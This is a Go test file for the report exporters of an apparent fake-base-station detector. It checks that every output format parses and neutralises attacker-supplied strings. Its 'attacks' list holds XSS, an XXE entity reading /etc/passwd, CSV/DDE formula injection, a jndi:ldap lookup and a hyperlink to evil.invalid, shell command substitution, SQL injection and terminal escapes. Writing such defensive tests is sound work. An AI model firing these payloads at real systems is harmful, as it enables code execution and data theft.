package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"mime"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/fbsdetect/fbsdetect/detect/cell"
	"github.com/fbsdetect/fbsdetect/detect/event"
	"github.com/fbsdetect/fbsdetect/detect/score"
)

// TestFormats: every row is complete, names and extensions of files do not clash, and
// the same document gives the same octets.
func TestFormats(t *testing.T) {
	seen := map[string]bool{}
	name := regexp.MustCompile(`^[a-z][a-z0-9-]*$`)
	for _, f := range Formats() {
		t.Run(f.Name, func(t *testing.T) {
			if !name.MatchString(f.Name) || seen[f.Name] {
				t.Errorf("name %q", f.Name)
			}
			if !strings.HasPrefix(f.Extension, ".") || seen[f.Extension] {
				t.Errorf("extension %q", f.Extension)
			}
			seen[f.Name], seen[f.Extension] = true, true
			if f.Use == "" || strings.HasSuffix(f.Use, ".") {
				t.Errorf("use %q", f.Use)
			}
			for _, d := range documents() {
				a, b := written(t, f, d), written(t, f, d)
				if len(a) == 0 || !bytes.Equal(a, b) {
					t.Errorf("%d octets, then %d, or others", len(a), len(b))
				}
				parses(t, f, a)
			}
		})
	}
	if got, err := FormatByName("json"); err != nil || got.Name != "json" {
		t.Errorf("json: %v, %v", got.Name, err)
	}
	if _, err := FormatByName("docx"); err == nil || !strings.Contains(err.Error(), "table, ") {
		t.Errorf("docx: %v", err)
	}
}

func written(t *testing.T, f Format, d *Document) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := f.Write(&b, d, Options{}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// parses reads an output by a parser of its media type, and checks that no reader of it
// could be made to act by what came over the air.
func parses(t *testing.T, f Format, out []byte) {
	t.Helper()
	media, _, err := mime.ParseMediaType(f.MediaType)
	if err != nil {
		t.Errorf("media type %q: %v", f.MediaType, err)
	}
	// CR LF is how RFC 4180 ends a row.
	harmless(t, bytes.ReplaceAll(out, []byte("\r\n"), []byte("\n")))
	switch {
	case media == "text/plain":
	case media == "application/x-ndjson":
		for n, l := range bytes.Split(bytes.TrimSuffix(out, []byte("\n")), []byte("\n")) {
			if !json.Valid(l) {
				t.Errorf("line %d is no JSON: %s", n+1, l)
			}
		}
	case media == "application/json" || strings.HasSuffix(media, "+json"):
		if !json.Valid(out) {
			t.Error("no JSON")
		}
	case media == "application/xml" || strings.HasSuffix(media, "+xml"):
		wellFormed(t, out)
		inert(t, out)
	case media == "text/csv":
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll() // rejects rows of other lengths
		if err != nil {
			t.Fatal(err)
		}
		for n, row := range rows {
			for i, c := range row {
				if _, err := strconv.ParseFloat(c, 64); err != nil && strings.ContainsAny(c[:min(1, len(c))], "=+-@\t\r\n") {
					t.Errorf("row %d: %s is a formula: %q", n, rows[0][i], c)
				}
			}
		}
	case media == "text/html":
		inert(t, out)
	default:
		t.Errorf("no parser for %s", f.MediaType)
	}
}

// inert fails when markup of the hostile document got into markup of ours.
func inert(t *testing.T, out []byte) {
	t.Helper()
	for _, s := range []string{"<script>alert", "<img", "<!ENTITY", "&x;"} {
		if bytes.Contains(out, []byte(s)) {
			t.Errorf("output holds %s", s)
		}
	}
}

// wellFormed reads all of an XML document.
func wellFormed(t *testing.T, out []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(out))
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		if x, ok := tok.(xml.Directive); ok {
			t.Errorf("a directive: %s", x)
		}
	}
}

// TestFormatGoldens: an example of each format, and what each makes of a document in
// which every string is an attacker's.
func TestFormatGoldens(t *testing.T) {
	for _, f := range Formats() {
		t.Run(f.Name, func(t *testing.T) {
			golden(t, "example"+f.Extension, written(t, f, exampleDocument()))
			golden(t, "hostile"+f.Extension, written(t, f, hostileDocument()))
		})
	}
}

// exampleDocument is a short drive past two cells, for the examples of the formats.
func exampleDocument() *Document {
	d := sampleDocument()
	d.Captures = d.Captures[:1]
	d.Captures[0].Path, d.Captures[0].Ledger.UnsupportedByReason = "drive/south.pcapng", map[string]int{"LTE RRC": 82}
	d.Notices = []string{"drive/south.pcapng: 2 messages beyond the first 512 of their session were not judged"}
	top := namedCell(65000, 1, 98.1, score.Consistent)
	top.LevelDBm, top.LastFrame = ptr(-47.3), event.Ref{Frame: 45}
	top.Sessions = cell.Sessions{Count: 5, Rejected: 5, IdentityRequests: 10}
	top.Evidence = []Evidence{
		evidence("gsm-test-session", "The cell takes a number and turns the phone away", "identify", 1.3, 1.3, event.Ref{Frame: 39}, event.Ref{Frame: 43}),
		evidence("gsm-test-paging", "The cell makes itself attractive", "attract", 0.9, 0.9, event.Ref{Frame: 12}),
		evidence("gsm-test-neighbours", "Other cells name this one", "counter", -0.5, -0.5, event.Ref{Frame: 15}),
	}
	top.Evidence[0].Field, top.Evidence[0].Got, top.Evidence[0].Expect = "Identity Type", "IMSI", "Authentication Request before it"
	top.Outcomes = Outcomes{
		Fired: []string{"gsm-test-neighbours", "gsm-test-paging", "gsm-test-session"}, Clear: []string{},
		Insufficient: []string{"gsm-test-paging-rate"}, NotObservable: []string{},
	}
	top.Parameters = map[string]string{"T3212": "0"}
	top.Broadcasts = []Parameter{{Name: "T3212", Value: "0 (no periodic updating)", Message: "System Information Type 3", First: event.Ref{Frame: 10}, Last: event.Ref{Frame: 45}}}
	second := namedCell(1001, 10012, 1.5, score.Ordinary)
	second.FirstFrame, second.LastFrame, second.First = event.Ref{Frame: 20}, event.Ref{Frame: 900}, at(20)
	point := func(second int, lat, lon float64) TrackPoint { return TrackPoint{*at(second), lat, lon} }
	d.Track = &Track{
		Path: "drive/south.gpx", SHA256: strings.Repeat("cd", 32), Points: 60, MaxGapSeconds: 10, Placed: 990, Unplaced: 10,
		Line: []TrackPoint{point(1, 13.7501, 100.5001), point(20, 13.7512, 100.502), point(40, 13.753, 100.5041)},
	}
	top.HeardAt = []HeardAt{
		{point(1, 13.7501, 100.5001), event.Ref{Frame: 10}, 30, 0.25, ptr(-61)}, {point(20, 13.7512, 100.502), event.Ref{Frame: 39}, 7, 0, ptr(-47)},
	}
	second.HeardAt = []HeardAt{{point(20, 13.7512, 100.502), event.Ref{Frame: 40}, 12, 1.5, nil}}
	d.Cells, d.Unattributed = []Cell{top, second}, []Cell{}
	d.Case = &Case{Case: "2026-17", Officer: "A. Example", Place: "market square", Note: "second drive"}
	d.Revealed = &Revealed{Reason: "identification of the phones reached"}
	return d
}

// attacks are strings that a cell could broadcast or a message carry to harm who reads a
// report of it.
var attacks = []string{
	"\x1b[2J\x1b]0;owned\a\u009b31m", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;]]>",
	`=HYPERLINK("http://evil.invalid","x")`, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r\n=cmd|' /C calc'!A0", " =1", "＝1",
	"\u202egpj.exe\u2066\u200f", "a\x00b\uffff", "\xff\xfe\xed\xa0\x80", "\ufeff\u200b\u2028", `' OR "1"="1' --\`, "|---|\n# h\n[x](javascript:alert(1))",
	"${jndi:ldap://evil.invalid}", "$(reboot)`id`%s%n", "::error file=x::y\n##[error]", "https://evil.invalid/?q=1&r=2", "",
}

// hostileDocument is the example with every string replaced.
func hostileDocument() *Document {
	d := exampleDocument()
	d.Unattributed = sampleDocument().Unattributed
	d.Captures = append(d.Captures, sampleDocument().Captures[1])
	d.Baseline = &Baseline{}
	d.Cells[0].Profile = &Profile{
		First: at(1), Kind: "sms_blaster", Stages: []Stage{{Stage: "lure", Observed: []string{"", ""}, Frames: []event.Ref{{Frame: 1}}}}, Texts: []PushedText{{Hosts: []string{""}}, {}},
	}
	n := 0
	poison(reflect.ValueOf(d).Elem(), func() string { n++; return attacks[n%len(attacks)] })
	return d
}

// poison replaces all strings in v.
func poison(v reflect.Value, next func() string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(next())
	case reflect.Pointer:
		if !v.IsNil() {
			poison(v.Elem(), next)
		}
	case reflect.Slice:
		for i := range v.Len() {
			poison(v.Index(i), next)
		}
	case reflect.Map:
		for i, k := range v.MapKeys() {
			value := reflect.New(v.Type().Elem()).Elem()
			value.Set(v.MapIndex(k))
			poison(value, next)
			v.SetMapIndex(k, reflect.Value{})
			v.SetMapIndex(reflect.ValueOf(attacks[i]), value)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			enum := strings.Contains(v.Type().Field(i).Tag.Get("jsonschema"), "enum=") // words of the program
			if f := v.Field(i); f.CanSet() && !enum {
				poison(f, next)
			}
		}
	}
}

// TestHostileIsHostile: the document holds every attack, so that the goldens show what
// becomes of each.
func TestHostileIsHostile(t *testing.T) {
	b, err := json.Marshal(hostileDocument())
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range attacks {
		q, _ := json.Marshal(a)
		if !bytes.Contains(b, q) {
			t.Errorf("no %s", q)
		}
	}
}

// TestNDJSON: every line fits the schema; what the lines say adds up to the document.
func TestNDJSON(t *testing.T) {
	var b bytes.Buffer
	if err := WriteSchema(&b, "ndjson"); err != nil {
		t.Fatal(err)
	}
	golden(t, "schema-ndjson.json", b.Bytes())
	compiled := compiledSchema(t, "ndjson")
	d := sampleDocument()
	f, err := FormatByName("ndjson")
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for _, l := range strings.Split(strings.TrimSuffix(string(written(t, f, d)), "\n"), "\n") {
		fits(t, compiled, []byte(l))
		var line struct{ Kind string }
		if err := json.Unmarshal([]byte(l), &line); err != nil {
			t.Fatal(err)
		}
		count[line.Kind]++
	}
	want := map[string]int{"run": 1, "capture": len(d.Captures), "notice": len(d.Notices)}
	for _, c := range append(d.Cells, d.Unattributed...) {
		want["cell"]++
		want["finding"] += len(c.Evidence)
		want["gap"] += len(c.Outcomes.Insufficient) + len(c.Outcomes.NotObservable)
	}
	if !reflect.DeepEqual(count, want) {
		t.Errorf("lines %v, want %v", count, want)
	}
}

// TestCSV: rows are those of the document, numbers stay numbers, texts read back.
func TestCSV(t *testing.T) {
	read := func(name string) (head map[string]int, rows [][]string) {
		f, err := FormatByName(name)
		if err != nil {
			t.Fatal(err)
		}
		rows, err = csv.NewReader(bytes.NewReader(written(t, f, sampleDocument()))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		head = map[string]int{}
		for i, h := range rows[0] {
			head[h] = i
		}
		return head, rows[1:]
	}
	head, rows := read("csv")
	d := sampleDocument()
	if len(rows) != len(d.Cells)+len(d.Unattributed) {
		t.Errorf("%d rows", len(rows))
	}
	for column, want := range map[string]string{
		"rank": "1", "plmn": "001-01", "area": "65000", "psc": "", "verdict": "consistent_with_fbs", "score": "98.1", "level_dbm": "-47.3",
		"first_frame": "0#10", "first": "2026-03-01T10:00:01Z", "capture": "drive/south.pcapng", "sessions": "5",
	} {
		if got := rows[0][head[column]]; got != want {
			t.Errorf("%s: %q, want %q", column, got, want)
		}
	}
	head, rows = read("csv-evidence")
	if len(rows) != 7 {
		t.Errorf("%d rows", len(rows))
	}
	for column, want := range map[string]string{
		"rank": "1", "rule": "gsm-identity-then-reject", "frames": "0#39 0#43 1#5", "expect": "<= 60 dB", "refs": "TS 45.008 §6.4; TS 44.018 §10.5.2.34",
		"benign_excluded": "The operator plans it so.", "weight": "1.3",
	} {
		if got := rows[0][head[column]]; got != want {
			t.Errorf("%s: %q, want %q", column, got, want)
		}
	}
	for in, want := range map[string]string{"=1": "'=1", " =1": "' =1", "\t1": `'\t1`, "＠x": "'＠x", "a=1": "a=1", "": "", "'": "'"} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestTrackLines: a line is cut at the 180th meridian, a single point is none.
func TestTrackLines(t *testing.T) {
	var track Track
	for _, lon := range []float64{179.9, 179.99, -179.99, -179.9, 170} {
		track.Line = append(track.Line, TrackPoint{Longitude: lon})
	}
	if got := track.lines(); len(got) != 2 || len(got[0]) != 2 || len(got[1]) != 2 {
		t.Errorf("%v", got)
	}
	if got := (*Track)(nil).lines(); got != nil {
		t.Errorf("%v", got)
	}
}

// TestPlaceNotes: without positions the formats for maps say so.
func TestPlaceNotes(t *testing.T) {
	none, far := exampleDocument(), exampleDocument()
	none.Track = nil
	far.Track.Placed, far.Track.Line = 0, nil
	for _, d := range []*Document{none, far} {
		for i := range d.Cells {
			d.Cells[i].HeardAt = nil
		}
		for _, name := range []string{"geojson", "kml"} {
			f, err := FormatByName(name)
			if err != nil {
				t.Fatal(err)
			}
			out := string(written(t, f, d))
			if !strings.Contains(out, "No positions are known") || strings.Contains(out, "oint>") || strings.Contains(out, `"Feature"`) {
				t.Errorf("%s: %s", name, out)
			}
		}
	}
}
